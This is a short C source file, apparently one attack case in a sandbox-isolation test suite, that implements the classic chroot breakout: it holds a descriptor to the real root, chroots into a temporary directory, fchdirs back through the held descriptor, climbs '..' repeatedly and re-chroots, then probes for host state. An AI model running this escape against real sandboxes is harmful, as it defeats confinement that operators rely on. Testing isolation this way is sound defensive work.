/* Leaves its root directory by chroot and a directory that it holds open. */
#include "attack.h"

void attack(int n, char **word) {
    (void)n;
    (void)word;
    char place[] = "./fvm-escape-XXXXXX";
    if (geteuid() != 0) take_namespaces(CLONE_NEWNS);
    TRY(mkdtemp(place) ? 0 : -1);
    int root = (int)TRY(open("/", O_RDONLY | O_DIRECTORY));
    TRY(chroot(place));
    TRY(fchdir(root));
    for (int i = 0; i < 64; i++) TRY(chdir(".."));
    TRY(chroot("."));
    look_for_state("");
}
